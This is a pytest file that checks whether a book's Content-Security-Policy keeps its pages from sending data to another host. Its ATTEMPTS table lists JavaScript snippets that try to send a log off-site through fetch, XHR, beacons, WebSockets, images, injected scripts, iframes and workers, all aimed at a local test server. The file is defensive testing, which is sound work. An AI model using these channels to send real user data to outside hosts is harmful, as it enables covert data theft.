"""The browser holds pages to their own host: explorers live, and nothing can be sent elsewhere."""

import html
import re
import shutil
import sys
from http.server import SimpleHTTPRequestHandler

import pytest

from tests.browsing import ROOT, bundle, page_text, state, wait_for_explorers
from tools.print_book import served

sys.path.insert(0, str(ROOT / "book/_ext"))
from esp_policy import EMBED_HASH, MATHJAX, WIDGETS, add_policy, policy

# What a page could try, to send text to another host.
ATTEMPTS = {
    "fetch": "fetch(url + '/fetch', {method: 'POST', body: 'a log', mode: 'no-cors'})",
    "request": """new Promise((yes, no) => { const r = new XMLHttpRequest();
      r.open('POST', url + '/request'); r.onload = yes; r.onerror = no; r.send('a log') })""",
    "beacon": "navigator.sendBeacon(url + '/beacon', 'a log')",
    "socket": """new Promise((yes, no) => { const s = new WebSocket(url.replace('http', 'ws'));
      s.onopen = yes; s.onerror = no })""",
    "image": """new Promise((yes, no) => { const i = new Image();
      i.onload = yes; i.onerror = no; i.src = url + '/image?a-log' })""",
    "script": """new Promise((yes, no) => { const s = document.createElement('script');
      s.onload = yes; s.onerror = no; s.src = url + '/script?a-log'; document.head.append(s) })""",
    "frame": """new Promise((yes) => { const f = document.createElement('iframe');
      f.src = url + '/frame?a-log'; document.body.append(f); setTimeout(yes, 300) })""",
    "worker": """new Promise((yes) => { const w = new Worker(URL.createObjectURL(new Blob([
      `fetch('${url}/worker', {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))`
      ]))); w.onmessage = yes; w.onerror = yes })""",
}


@pytest.fixture(scope="module")
def page_folder(tmp_path_factory):
    """A page with an explorer, under the policy of the book's pages."""
    from esp_lib.widgets import SawtoothExplorer

    folder = tmp_path_factory.mktemp("page")
    shutil.copy(bundle(), folder / "widgets.js")
    text = page_text(SawtoothExplorer(), script="widgets.js")
    tag = f'<meta http-equiv="Content-Security-Policy" content="{html.escape(policy(True))}">'
    page = text.replace('<meta charset="utf-8">', f'<meta charset="utf-8">{tag}', 1)
    assert page != text
    (folder / "index.html").write_text(page, encoding="utf-8")
    (folder / "open.html").write_text(text, encoding="utf-8")  # the same without the policy
    return folder


@pytest.fixture
def elsewhere():
    """Another host, and what has reached it."""
    reached = []

    class Handler(SimpleHTTPRequestHandler):
        def answer(self):
            reached.append(self.path.split("?")[0])
            self.send_response(204)
            self.end_headers()

        do_GET = do_POST = answer  # noqa: N815

    with served(ROOT, Handler) as address:
        yield address, reached


@pytest.fixture
def own_host(page_folder):
    with served(page_folder) as address:
        yield address


def try_all(page, url):
    for attempt in ATTEMPTS.values():
        page.evaluate(f"async (url) => {{ try {{ await ({attempt}) }} catch {{}} }}", url)


@pytest.mark.browser
@pytest.mark.parametrize("kind", ["http", "file"])
def test_the_explorer_lives_and_nothing_is_sent(browser, page_folder, own_host, elsewhere, kind):
    address, reached = elsewhere
    page = browser.new_page()
    refused, errors = [], []
    page.on("console", lambda line: refused.append(line.text) if "Policy" in line.text else None)
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"{own_host}/index.html" if kind == "http" else (page_folder / "index.html").as_uri())
    wait_for_explorers(page)
    page.wait_for_function(
        "() => document.querySelector('[data-explorer=\"sawtooth\"]')?.dataset.state"
    )
    assert state(page)
    assert refused == []
    assert errors == []
    try_all(page, address)
    assert reached == []
    assert len(refused) >= len(ATTEMPTS) - 1
    page.close()


@pytest.mark.browser
def test_the_attempts_would_succeed_without_the_policy(browser, own_host, elsewhere):
    address, reached = elsewhere
    page = browser.new_page()
    page.goto(f"{own_host}/open.html")
    try_all(page, address)
    page.wait_for_timeout(300)
    assert {"/fetch", "/request", "/beacon", "/image", "/script", "/frame", "/worker"} <= set(
        reached
    )
    page.close()


@pytest.mark.parametrize("bundled", [True, False])
def test_every_page_gets_the_policy_first(bundled):
    class App:
        class config:  # noqa: N801
            mathjax_path = "esp-vendor/mathjax.js" if bundled else MATHJAX

    context = {
        "metatags": '<meta name="description" content="x">',
        "script_files": ["a.js", "https://elsewhere/b.js", 'c.js" type="text/later'],
        "js_tag": '<script src="{}"></script>'.format,
    }
    add_policy(App, "", "", context)
    tags = re.findall(r"<meta [^>]+>", context["metatags"])
    assert len(tags) == 2
    assert "Content-Security-Policy" in tags[0]
    assert ("jsdelivr" in tags[0]) != bundled
    assert "connect-src &#x27;self&#x27;;" in tags[0]
    named = re.findall(r'rel="preload" as="script" href="([^"]+)"', context["metatags"])
    assert named == ["a.js"]


def test_pages_without_a_bundle_name_exact_versions_with_hashes():
    for url, attributes in WIDGETS.items():
        assert re.search(r"[@/]\d+\.\d+\.\d+/", url)
        assert attributes["integrity"].startswith(("sha384-", "sha256-"))
        assert attributes["crossorigin"] == "anonymous"
    assert re.search(r"@\d+\.\d+\.\d+/", MATHJAX)
    assert len(EMBED_HASH) == len("sha384-") + 64


def test_every_page_of_the_book_has_the_policy(built_book):
    pages = [path for path in built_book.rglob("*.html") if "_static" not in path.parts]
    without = [
        path.name
        for path in pages
        if "Content-Security-Policy" not in (text := path.read_text("utf8"))
        and "location.replace" not in text  # the root page, which only leads on
    ]
    assert without == []


@pytest.mark.parametrize("name", ["index", "06_beyond"])
def test_no_script_of_a_head_waits_for_another(book, name):
    """Behind a policy Chromium does not look ahead: what is not named early is loaded in turn."""
    head = (book / f"book/{name}.html").read_text("utf8").split("</head>")[0]
    early = head[: head.index("<script")]
    named = re.findall(r'<link rel="preload" as="script" href="([^"]+)"', early)
    scripts = re.findall(r'<script (?![^>]*(?:defer|text/later))[^>]*src="([^"]+)"', head)
    assert len(scripts) > 5
    assert set(scripts) <= set(named)
    assert not any("mathjax" in file for file in named)  # it comes later
